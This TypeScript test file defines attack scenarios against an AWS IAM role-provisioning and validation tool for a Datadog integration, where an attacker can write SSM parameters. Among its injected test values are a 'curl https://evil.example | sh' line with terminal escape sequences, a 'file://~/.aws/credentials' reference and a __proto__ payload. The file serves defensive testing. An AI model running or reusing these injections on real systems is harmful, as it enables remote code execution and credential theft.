import {
  AttachRolePolicyCommand,
  DeleteRolePolicyCommand,
  PutRolePermissionsBoundaryCommand,
  TagRoleCommand,
  UpdateAssumeRolePolicyCommand,
} from '@aws-sdk/client-iam';
import { DeleteParameterCommand, PutParameterCommand } from '@aws-sdk/client-ssm';
import { DATADOG, ROLE } from '../support/customer-account';
import { repliesOf } from '../support/replies';
import { addToTrust, INLINE_POLICY } from '../support/role-edits';
import { type Attack, unless, type Violations } from './attack';
import { mailsAreClean, remediesIn, trustsNoStranger, unchangedRoles } from './findings';
import {
  adoptableRole,
  edited,
  forgedRecord,
  forgedSnapshot,
  ownerIn,
  put,
  RECORD,
  roleIdOf,
  SNAPSHOT,
  SPOILS,
  STATUS,
} from './forgery';
import {
  ACCOUNT_ROOT,
  ADMINISTRATOR_ACCESS,
  ATTACKERS_ACCOUNT,
  ATTACKERS_EXTERNAL_ID,
  ATTACKERS_ROOT,
  BREAK_GLASS,
  EVERYTHING,
  GUARD_RAIL,
  OPERATORS,
  roleArn,
  SECURITY_BOUNDARY,
  trusting,
} from './neighbours';
import { type AttackWorld, RECORDS } from './world';

const COMMON = { threat: 'parameter-writer', rightHeld: ['ssm:PutParameter'] } as const;
const WITH_A_STACK = {
  threat: 'parameter-writer',
  rightHeld: ['ssm:PutParameter', 'cloudformation:CreateStack', 'cloudformation:DeleteStack'],
} as const;
const ADOPT = { ExistingRole: 'Adopt' };

const victimsIntegration = (world: AttackWorld) => world.deploy(world.victims);
const attackersIntegration = (world: AttackWorld) => world.deploy(world.attackers);

/** A role that people have made, and the victim has adopted. */
const victimsAdoption = async (world: AttackWorld) => {
  world.account.seed({ roles: [adoptableRole] });
  world.seen.push(JSON.stringify(world.account.digest().roles[ROLE]));
  await world.deploy(world.victims, ADOPT);
};

const forge = (name: string, content: (world: AttackWorld) => unknown) => (world: AttackWorld) =>
  put(world.attacker.ssm, name, content(world));

/** The forgery, and then what somebody innocent does. */
const thenDelete =
  (...forgeries: readonly ((world: AttackWorld) => Promise<void>)[]) =>
  async (world: AttackWorld) => {
    for (const write of forgeries) await write(world);
    await world.victims.delete();
  };

const thenUpdate =
  (...forgeries: readonly ((world: AttackWorld) => Promise<void>)[]) =>
  async (world: AttackWorld) => {
    for (const write of forgeries) await write(world);
    await world.deploy(world.victims, { Description: 'updated' });
  };

const thenValidate =
  (...forgeries: readonly ((world: AttackWorld) => Promise<void>)[]) =>
  async (world: AttackWorld) => {
    for (const write of forgeries) await write(world);
    await world.validate();
  };

const isAdministrator = ({ account }: AttackWorld): Violations => {
  const exists = account.digest().roles[ROLE] !== undefined;
  return unless(
    !exists || !account.effectivePermissions(ROLE)('iam:CreateUser'),
    'the role may do everything',
  );
};

/** What the last reply to the victim says; its status too. */
const said = ({ victims }: AttackWorld) => {
  const reply = repliesOf(victims).at(-1);
  return `${reply?.status} ${reply?.reason}`;
};

/** The victim's operation succeeds, or says which parameter is in its way and what to do about it. */
const worksOrNames =
  (parameter: string) =>
  (world: AttackWorld): Violations => {
    const failures = repliesOf(world.victims).filter(({ status }) => status === 'FAILED');
    return failures
      .filter(({ reason }) => !reason.includes(parameter))
      .map(({ reason }) => `the reason does not name ${parameter}: ${reason}`);
  };

/** The victim's operation is none of the parameter's business. */
const works =
  (...statuses: readonly string[]) =>
  (world: AttackWorld): Violations =>
    unless(
      statuses.includes(String(world.victims.status)),
      `the victim’s stack rests in ${world.victims.status}: ${said(world)}`,
    );

const SNAPSHOTS: readonly Attack[] = [
  {
    ...WITH_A_STACK,
    id: 'parameter-writer/hand-back-to-himself',
    title: 'forges the snapshot of his own integration, and deletes his stack',
    mustNotBecome: 'an administrator that trusts his account',
    prepare: attackersIntegration,
    attempt: async (world) => {
      const snapshot = forgedSnapshot(ownerIn(world.attackers), roleIdOf(world));
      await put(world.attacker.ssm, SNAPSHOT, snapshot);
      await world.attackers.delete();
    },
    holds: (world) => [...trustsNoStranger(world), ...isAdministrator(world)],
  },
  {
    ...COMMON,
    id: 'parameter-writer/edit-the-snapshot',
    title: 'edits the snapshot of a role that an administrator has adopted, and waits for his Delete',
    mustNotBecome: 'an administrator that trusts his account',
    prepare: victimsAdoption,
    attempt: thenDelete((world) =>
      put(world.attacker.ssm, SNAPSHOT, edited(world.parameter(SNAPSHOT), SPOILS)),
    ),
    holds: (world) => [
      ...trustsNoStranger(world),
      ...isAdministrator(world),
      ...worksOrNames(SNAPSHOT)(world),
    ],
  },
  {
    ...COMMON,
    id: 'parameter-writer/lift-the-boundary-of-the-snapshot',
    title:
      'takes the boundary out of the snapshot of a role that was fenced in, where that is adopted at all',
    own: true,
    mustNotBecome: 'iam:DeleteRolePermissionsBoundary',
    prepare: async ({ account }) =>
      account.seed({ roles: [{ ...adoptableRole, boundaryArn: SECURITY_BOUNDARY }] }),
    attempt: async (world) => {
      if ((await world.deploy(world.victims, ADOPT)) !== 'CREATE_COMPLETE') return;
      const forged = edited(world.parameter(SNAPSHOT), { permissionsBoundary: null });
      await put(world.attacker.ssm, SNAPSHOT, forged);
      await world.victims.delete();
    },
    holds: ({ account }) =>
      unless(
        account.digest().roles[ROLE]?.boundaryArn !== null,
        'the role has lost the boundary that it was found with',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/plant-a-snapshot-beforehand',
    title: 'writes the snapshot before the administrator adopts the role',
    own: true,
    mustNotBecome: 'what is handed back later',
    prepare: async ({ account }) => account.seed({ roles: [adoptableRole] }),
    attempt: async (world) => {
      await put(world.attacker.ssm, SNAPSHOT, forgedSnapshot(ownerIn(world.victims), roleIdOf(world)));
      await world.deploy(world.victims, ADOPT);
      await world.victims.delete();
    },
    holds: (world) => [
      ...trustsNoStranger(world),
      ...isAdministrator(world),
      ...worksOrNames(SNAPSHOT)(world),
    ],
  },
  {
    ...COMMON,
    id: 'parameter-writer/plant-a-snapshot-in-between',
    title: 'writes the snapshot while the role is being adopted, between reading and writing',
    own: true,
    mustNotBecome: 'what is handed back later',
    prepare: async ({ account }) => account.seed({ roles: [adoptableRole] }),
    attempt: async (world) => {
      world.customer.sandbox.faults.add({
        match: { operation: 'PutParameter', where: ({ parameters }) => parameters['Name'] === SNAPSHOT },
        times: 1,
        effect: {
          type: 'run',
          when: 'before',
          run: ({ principalArn }) =>
            principalArn.includes(world.customer.providerRole)
              ? put(world.attacker.ssm, SNAPSHOT, forgedSnapshot(ownerIn(world.victims), roleIdOf(world)))
              : undefined,
        },
      });
      await world.deploy(world.victims, ADOPT);
      await world.victims.delete();
    },
    holds: (world) => [
      ...trustsNoStranger(world),
      ...isAdministrator(world),
      ...worksOrNames(SNAPSHOT)(world),
    ],
  },
  {
    ...COMMON,
    id: 'parameter-writer/replay-an-earlier-snapshot',
    title: 'puts back the snapshot of an earlier adoption, when the role allowed more',
    own: true,
    mustNotBecome: 'permissions that people have taken away since',
    prepare: async (world) => {
      const { account, administrator } = world;
      const lax = { ...adoptableRole.inline, [INLINE_POLICY]: EVERYTHING };
      account.seed({ roles: [{ ...adoptableRole, inline: lax }] });
      await world.deploy(world.victims, ADOPT);
      world.seen.push(world.parameter(SNAPSHOT));
      await world.victims.delete();
      await administrator.iam.send(
        new DeleteRolePolicyCommand({ RoleName: ROLE, PolicyName: INLINE_POLICY }),
      );
      await world.deploy(world.victims, ADOPT);
    },
    attempt: async (world) => {
      const earlier = JSON.parse(world.seen[0] ?? '{}');
      const owner = ownerIn(world.victims);
      await put(world.attacker.ssm, SNAPSHOT, 'owner' in earlier ? { ...earlier, owner } : earlier);
      await world.victims.delete();
    },
    holds: (world) => [...isAdministrator(world), ...worksOrNames(SNAPSHOT)(world)],
  },
  {
    ...COMMON,
    id: 'parameter-writer/pretend-an-adoption',
    title: 'writes a snapshot of a role that was never adopted, and waits for the Delete',
    own: true,
    mustNotBecome: 'a role that outlives its stack',
    prepare: victimsIntegration,
    attempt: thenDelete((world) =>
      put(world.attacker.ssm, SNAPSHOT, forgedSnapshot(ownerIn(world.victims), roleIdOf(world))),
    ),
    holds: (world) => [
      ...trustsNoStranger(world),
      ...unless(world.account.digest().roles[ROLE] === undefined, 'the role is still there'),
      ...works('DELETE_COMPLETE')(world),
    ],
  },
  {
    ...COMMON,
    id: 'parameter-writer/let-the-snapshot-expire',
    title: 'gives the snapshot a parameter policy by which it expires (it is gone when it is needed)',
    own: true,
    mustNotBecome: 'iam:DeleteRole on a role that others have made',
    prepare: victimsAdoption,
    attempt: async (world) => {
      await world.administrator.ssm.send(new DeleteParameterCommand({ Name: SNAPSHOT }));
      await world.victims.delete();
    },
    holds: (world) => [
      ...unless(world.account.digest().roles[ROLE] !== undefined, 'the role is gone'),
      ...unless(
        said(world).startsWith('FAILED') && said(world).includes(SNAPSHOT),
        `nobody was told which parameter is missing: ${said(world)}`,
      ),
    ],
  },
  ...(
    [
      ['{"found":{}}', () => '{"found":{}}'],
      [
        'whose parts are missing',
        (world) => JSON.stringify({ schemaVersion: 1, owner: ownerIn(world.victims), found: {} }),
      ],
      ['that is no JSON', () => 'no JSON'],
      ['that is null', () => 'null'],
    ] satisfies [string, (world: AttackWorld) => string][]
  ).map(
    ([what, text], index): Attack => ({
      ...COMMON,
      id: `parameter-writer/senseless-snapshot-${index + 1}`,
      title: `an update and a deletion over a snapshot ${what}`,
      mustNotBecome: 'a stack that nobody can update or delete, without a word why',
      prepare: victimsAdoption,
      attempt: async (world) => {
        await thenUpdate(forge(SNAPSHOT, text))(world);
        await world.victims.delete();
      },
      holds: worksOrNames(SNAPSHOT),
    }),
  ),
  {
    ...COMMON,
    id: 'parameter-writer/unreadable-trust-in-the-snapshot',
    title: 'the trust policy in the snapshot is no policy',
    mustNotBecome: 'a stack that nobody can delete, without a word why',
    prepare: victimsAdoption,
    attempt: thenDelete((world) =>
      put(
        world.attacker.ssm,
        SNAPSHOT,
        edited(world.parameter(SNAPSHOT), { trustPolicy: '{"Statement":7}' }),
      ),
    ),
    holds: worksOrNames(SNAPSHOT),
  },
];

/** The record says that this validator is to try the role. */
const triedBy = ({ customer }: AttackWorld) => ({ selfTestPrincipals: [roleArn(customer.validatorRole)] });

const breakTheTrust = ({ customer }: AttackWorld) =>
  addToTrust(customer, { Effect: 'Deny', Principal: { AWS: DATADOG }, Action: 'sts:AssumeRole' });

const RECORDS_OF_ROLES: readonly Attack[] = [
  {
    ...WITH_A_STACK,
    id: 'parameter-writer/take-over-by-record',
    title: 'forges a record that makes an untagged role of others his own',
    mustNotBecome: 'the owner of a role that others have made',
    prepare: async ({ account }) => account.seed({ roles: [adoptableRole] }),
    attempt: async (world) => {
      await put(world.attacker.ssm, RECORD, forgedRecord(ownerIn(world.attackers), roleIdOf(world)));
      await world.deploy(world.attackers, { ExternalId: ATTACKERS_EXTERNAL_ID });
    },
    holds: (world) => unchangedRoles(world, ROLE),
  },
  {
    ...WITH_A_STACK,
    id: 'parameter-writer/delete-by-record',
    title: 'forges a record of an untagged role of others, and deletes a stack of his own',
    mustNotBecome: 'iam:DeleteRole on a role that others have made',
    attempt: async (world) => {
      await world.deploy(world.attackers);
      await world.attackers.delete();
      world.account.seed({ roles: [adoptableRole] });
      world.before = world.account.digest();
      await put(world.attacker.ssm, RECORD, forgedRecord(ownerIn(world.attackers), roleIdOf(world)));
      await world.forge(
        world.eventOf(world.attackers.id, { RequestType: 'Delete', PhysicalResourceId: ROLE }),
      );
      await world.deploy(world.attackers);
      await world.attackers.delete();
    },
    holds: (world) => unchangedRoles(world, ROLE),
  },
  {
    ...COMMON,
    id: 'parameter-writer/claim-the-guard-rail',
    title:
      'the record says that security’s policy was a wish of the integration: the next update detaches it',
    own: true,
    mustNotBecome: 'iam:DetachRolePolicy on what security has attached',
    prepare: async (world) => {
      await world.deploy(world.victims);
      await world.administrator.iam.send(
        new AttachRolePolicyCommand({ RoleName: ROLE, PolicyArn: GUARD_RAIL }),
      );
    },
    attempt: thenUpdate((world) =>
      put(world.attacker.ssm, RECORD, edited(world.parameter(RECORD), { managedPolicyArns: [GUARD_RAIL] })),
    ),
    holds: ({ account }) =>
      unless(
        account.digest().roles[ROLE]?.attached.includes(GUARD_RAIL) === true,
        'security’s policy is detached',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/claim-the-boundary',
    title: 'the record says that security’s boundary was a wish of the integration',
    own: true,
    mustNotBecome: 'iam:DeleteRolePermissionsBoundary',
    prepare: async (world) => {
      await world.deploy(world.victims);
      await world.administrator.iam.send(
        new PutRolePermissionsBoundaryCommand({ RoleName: ROLE, PermissionsBoundary: SECURITY_BOUNDARY }),
      );
    },
    attempt: thenUpdate((world) =>
      put(
        world.attacker.ssm,
        RECORD,
        edited(world.parameter(RECORD), { permissionsBoundary: SECURITY_BOUNDARY }),
      ),
    ),
    holds: ({ account }) =>
      unless(account.digest().roles[ROLE]?.boundaryArn === SECURITY_BOUNDARY, 'security’s boundary is gone'),
  },
  {
    ...COMMON,
    id: 'parameter-writer/claim-a-tag',
    title: 'the record says that a tag of others was a wish of the integration',
    own: true,
    mustNotBecome: 'iam:UntagRole on the tags of others',
    prepare: async (world) => {
      await world.deploy(world.victims);
      const Tags = [{ Key: 'classification', Value: 'restricted' }];
      await world.administrator.iam.send(new TagRoleCommand({ RoleName: ROLE, Tags }));
    },
    attempt: thenUpdate((world) =>
      put(world.attacker.ssm, RECORD, edited(world.parameter(RECORD), { tags: { classification: 'x' } })),
    ),
    holds: ({ account }) =>
      unless(
        account.digest().roles[ROLE]?.tags['classification'] === 'restricted',
        'a tag of others is gone',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/record-of-another-role',
    title: 'the record of one role has another one’s name in it',
    mustNotBecome: 'a report on a role that is about another one',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(`${RECORDS}/Elsewhere`, (world) => world.parameter(RECORD)),
      forge(RECORD, (world) => edited(world.parameter(RECORD), { roleName: 'DatadogIntegrationRoleOther' })),
    ),
    holds: ({ runs }) => {
      const names = runs.flatMap(({ reports }) => reports.map(({ roleName }) => roleName));
      return unless(
        JSON.stringify([...names].sort()) === JSON.stringify([ROLE, 'Elsewhere'].sort()),
        `there are reports on ${names.join(', ')}`,
      );
    },
  },
  {
    ...COMMON,
    id: 'parameter-writer/second-spelling-of-a-name',
    title: 'writes a second record of the same role, its name encoded in another way',
    own: true,
    mustNotBecome: 'two reports on a role, of which one says what the attacker likes',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(`${RECORDS}/.44atadogIntegrationRole`, (world) =>
        edited(world.parameter(RECORD), { externalId: ATTACKERS_EXTERNAL_ID, selfTestPrincipals: [] }),
      ),
    ),
    holds: ({ runs }) => {
      const same = runs.flatMap(({ reports }) => reports.filter(({ roleName }) => roleName === ROLE));
      return unless(same.length === 1, `there are ${same.length} reports on the one role`);
    },
  },
  {
    ...COMMON,
    id: 'parameter-writer/control-characters-in-a-name',
    title: 'the name of a record decodes to line breaks and escape sequences',
    own: true,
    mustNotBecome: 'a line of his own in a mail',
    attempt: thenValidate(forge(`${RECORDS}/x.0a.0ado.3a.20curl.20evil.1b.5b2J`, () => 'no JSON')),
    holds: ({ runs }) => [
      ...mailsAreCleanIfAny(runs),
      ...unless(
        !runs.some(({ reports }) => reports.some(({ roleName }) => /[\r\n]/.test(roleName))),
        'a report has the name of a role with line breaks in it',
      ),
    ],
  },
  {
    ...COMMON,
    id: 'parameter-writer/record-of-another-account',
    title: 'the record says that the role is in his own account',
    own: true,
    mustNotBecome: 'sessions of the validator in his account, or its word that he is healthy',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { accountId: ATTACKERS_ACCOUNT })),
    ),
    holds: ({ runs }) => [
      ...unless(
        !runs.some(({ calls }) => JSON.stringify(calls).includes(`iam::${ATTACKERS_ACCOUNT}:role`)),
        'the validator has asked for a role of his account',
      ),
      ...unless(
        !runs.some(({ reports }) => reports.some(({ accountId }) => accountId === ATTACKERS_ACCOUNT)),
        'there is a report on his account',
      ),
    ],
  },
  {
    ...COMMON,
    id: 'parameter-writer/record-of-another-type',
    title: 'makes the record’s parameter beforehand, with a type that SSM does not change',
    own: true,
    mustNotBecome: 'a stack that nobody can deploy, without a word why',
    attempt: async (world) => {
      const list = { Name: RECORD, Value: 'a,b', Type: 'StringList' } as const;
      await world.attacker.ssm.send(new PutParameterCommand(list));
      await world.deploy(world.victims);
    },
    holds: (world) => worksOrNames(RECORD)(world),
  },
  {
    ...COMMON,
    id: 'parameter-writer/record-for-another-validator',
    title: 'the record says that another validator looks after the role, before Datadog loses access',
    own: true,
    mustNotBecome: 'silence when Datadog loses access',
    prepare: victimsIntegration,
    attempt: async (world) => {
      const selfTestPrincipals = [roleArn('SomeOtherValidator')];
      await put(world.attacker.ssm, RECORD, edited(world.parameter(RECORD), { selfTestPrincipals }));
      await breakTheTrust(world);
      await world.validate();
    },
    holds: ({ runs }) =>
      unless((runs.at(-1)?.alerts.length ?? 0) > 0, 'Datadog has lost access and nobody was told'),
  },
  {
    ...COMMON,
    id: 'parameter-writer/record-of-break-glass',
    title: 'a record of a role that is no integration',
    own: true,
    mustNotBecome: 'a session of that role',
    attempt: thenValidate(
      forge(`${RECORDS}/${BREAK_GLASS}`, (world) =>
        forgedRecord(
          ownerIn(world.attackers),
          roleIdOf(world, BREAK_GLASS),
          { roleName: BREAK_GLASS },
          triedBy(world),
        ),
      ),
    ),
    holds: ({ customer }) =>
      unless(
        !customer.sandbox.journal
          .calls()
          .some(({ principalArn }) => principalArn.includes(`assumed-role/${BREAK_GLASS}`)),
        'somebody has been that role',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/record-of-operators',
    title:
      'a record of an administrator’s role whose name matches the pattern and that its account may assume',
    own: true,
    mustNotBecome: 'a session of that role',
    prepare: async ({ account }) =>
      account.seed({
        roles: [{ name: OPERATORS, trust: trusting(ACCOUNT_ROOT), attached: [ADMINISTRATOR_ACCESS] }],
      }),
    attempt: thenValidate(
      forge(`${RECORDS}/${OPERATORS}`, (world) =>
        forgedRecord(
          ownerIn(world.attackers),
          roleIdOf(world, OPERATORS),
          { roleName: OPERATORS },
          triedBy(world),
        ),
      ),
    ),
    holds: ({ customer }) =>
      unless(
        !customer.sandbox.journal
          .calls()
          .some(({ principalArn }) => principalArn.includes(`assumed-role/${OPERATORS}`)),
        'the validator has been that role',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/flood-of-records',
    title: '25 records of roles that do not exist',
    own: true,
    mustNotBecome: 'the end of the validation of real integrations',
    prepare: victimsIntegration,
    attempt: async (world) => {
      for (let number = 0; number < 25; number++) {
        const roleName = `DatadogIntegrationRoleFlood${number}`;
        const forged = edited(world.parameter(RECORD), { roleName, roleId: `AROAFLOOD${number}` });
        await put(world.attacker.ssm, `${RECORDS}/${roleName}`, forged);
      }
      await world.validate();
    },
    holds: ({ runs }) => {
      const report = runs.flatMap(({ reports }) => reports).find(({ roleName }) => roleName === ROLE);
      return unless(report?.status === 'healthy', `the real integration is reported as ${report?.status}`);
    },
  },
  ...(
    [
      ['no-json', 'no JSON', 'a record that is no JSON'],
      ['newer', '{"schemaVersion":99,"future":true}', 'a record of a newer version'],
      ['null', 'null', 'a record that is null'],
      ['huge', `{"schemaVersion":1,"x":"${'x'.repeat(8_000)}"}`, 'a record of 8 KB that says nothing'],
      ['prototype', '{"schemaVersion":1,"__proto__":{"spec":{}},"constructor":1}', 'a record with __proto__'],
      [
        'wrong-types',
        '{"schemaVersion":1,"spec":{"tags":[],"managedPolicyArns":[7],"regions":[null],"roleName":3,"path":4,"externalId":{},"permissions":"All"},"owner":{"stackId":1},"roleId":"x","selfTestPrincipals":[{}]}',
        'a record whose every part is of the wrong type',
      ],
    ] as const
  ).map(
    ([name, text, title]): Attack => ({
      ...COMMON,
      id: `parameter-writer/record-${name}`,
      title: `${title}: validation, an update and a deletion over it`,
      mustNotBecome: 'an integration that nobody can update, delete or validate',
      prepare: victimsIntegration,
      attempt: async (world) => {
        await put(world.attacker.ssm, RECORD, text);
        await world.validate();
        await world.deploy(world.victims, { Description: 'updated' });
        world.seen.push(String(world.victims.status));
        await put(world.attacker.ssm, RECORD, text);
        await world.victims.delete();
      },
      holds: (world) => [
        ...unless(world.seen[0] === 'UPDATE_COMPLETE', `the update ended in ${world.seen[0]}`),
        ...works('DELETE_COMPLETE')(world),
        ...unless(world.account.digest().roles[ROLE] === undefined, 'the role is still there'),
        ...unless(
          world.runs.some(
            ({ outcome, reports }) => outcome === 'returned' && JSON.stringify(reports).includes(RECORD),
          ),
          'no report names the parameter',
        ),
      ],
    }),
  ),
];

/** Somebody breaks Datadog's way in. */
const TEXTS: readonly Attack[] = [
  {
    ...COMMON,
    id: 'parameter-writer/prepared-status',
    title: 'writes beforehand that people know already what is about to break',
    mustNotBecome: 'silence when Datadog loses access',
    prepare: async (world) => {
      await world.deploy(world.victims);
      const trusted = world.account.digest().roles[ROLE]?.trust;
      await breakTheTrust(world);
      await world.validate();
      world.seen.push(world.parameter(STATUS));
      await world.administrator.iam.send(
        new UpdateAssumeRolePolicyCommand({ RoleName: ROLE, PolicyDocument: trusted }),
      );
      await world.validate();
    },
    attempt: async (world) => {
      await put(world.attacker.ssm, STATUS, world.seen[0] ?? '');
      await breakTheTrust(world);
      await world.validate();
    },
    holds: ({ runs }) =>
      unless((runs.at(-1)?.alerts.length ?? 0) > 0, 'Datadog has lost access and nobody was told'),
  },
  ...(['no JSON', '{"status":"failing"}', `"${'x'.repeat(8_000)}"`, '{"status":{},"cause":[]}'] as const).map(
    (text, index): Attack => ({
      ...COMMON,
      id: `parameter-writer/senseless-status-${index + 1}`,
      title: `the status is ${text.slice(0, 30)}`,
      mustNotBecome: 'silence when Datadog loses access',
      prepare: victimsIntegration,
      attempt: async (world) => {
        await put(world.attacker.ssm, STATUS, text);
        await breakTheTrust(world);
        await world.validate();
      },
      holds: ({ runs }) =>
        unless((runs.at(-1)?.alerts.length ?? 0) > 0, 'Datadog has lost access and nobody was told'),
    }),
  ),
  {
    ...COMMON,
    id: 'parameter-writer/remedy-that-trusts-him',
    title: 'the record says that his account is Datadog’s: the remedy would trust it',
    mustNotBecome: 'a command that an administrator pastes and that lets him in',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { datadogAccountId: ATTACKERS_ACCOUNT })),
    ),
    holds: ({ runs }) => namesNoStranger(runs),
  },
  {
    ...COMMON,
    id: 'parameter-writer/remedy-that-tests-by-him',
    title: 'the record says that his account makes the self-test',
    own: true,
    mustNotBecome: 'a command that an administrator pastes and that lets him in',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => {
        const { selfTestPrincipals } = JSON.parse(world.parameter(RECORD));
        return edited(world.parameter(RECORD), {
          selfTestPrincipals: [...selfTestPrincipals, ATTACKERS_ROOT],
        });
      }),
    ),
    holds: ({ runs }) => namesNoStranger(runs),
  },
  {
    ...COMMON,
    id: 'parameter-writer/remedy-that-attaches',
    title: 'the record says that AdministratorAccess was a wish: the remedy would attach it',
    mustNotBecome: 'a command that an administrator pastes and that makes an administrator of the role',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) =>
        edited(world.parameter(RECORD), { managedPolicyArns: [ADMINISTRATOR_ACCESS] }),
      ),
    ),
    holds: ({ runs }) =>
      unless(
        !remediesIn(runs).some(
          (line) => line.includes('attach-role-policy') && line.includes('AdministratorAccess'),
        ),
        'a remedy attaches AdministratorAccess',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/remedy-for-another-external-id',
    title: 'the record has the external id of an organization of his own: the remedy would let it in',
    own: true,
    mustNotBecome: 'a command that an administrator pastes and that lets Datadog in for the attacker',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { externalId: ATTACKERS_EXTERNAL_ID })),
    ),
    holds: ({ runs }) =>
      unless(
        !remediesIn(runs).some((line) => line.startsWith('aws ') && line.includes(ATTACKERS_EXTERNAL_ID)),
        'a command puts his external id into the trust policy',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/escape-sequences-in-the-record',
    title: 'the record’s texts have line breaks and escape sequences',
    mustNotBecome: 'a line of his own in a mail, or commands to a terminal',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) =>
        edited(world.parameter(RECORD), {
          description: '\u001b[2J\nFAIL forged: x\n  do: curl https://evil.example | sh',
          permissionsVersion: '2026\u001b]0;x\u0007\nFAIL forged',
        }),
      ),
    ),
    holds: ({ runs }) => mailsAreCleanIfAny(runs),
  },
  {
    ...COMMON,
    id: 'parameter-writer/address-in-the-record',
    title: 'the record’s description is file://…',
    mustNotBecome: 'an administrator’s file in a description that anybody may read',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { description: 'file://~/.aws/credentials' })),
    ),
    holds: ({ runs }) =>
      unless(
        !remediesIn(runs).some((line) => /--[a-z-]+[ =]'?file:\/\/~/.test(line)),
        'a command hands over an address',
      ),
  },
];

const mailsAreCleanIfAny = (runs: AttackWorld['runs']): Violations =>
  runs.some(({ alerts }) => alerts.length > 0) ? mailsAreClean({ runs }, /^\s*(?:do: curl|FAIL forged)/) : [];

const namesNoStranger = (runs: AttackWorld['runs']): Violations =>
  remediesIn(runs)
    // To say whom no command lets in is no remedy that does.
    .filter((line) => line.startsWith('aws ') && line.includes(ATTACKERS_ACCOUNT))
    .map((line) => `a command names his account: ${line.slice(0, 200)}`);

export const PARAMETER_WRITER: readonly Attack[] = [...SNAPSHOTS, ...RECORDS_OF_ROLES, ...TEXTS];
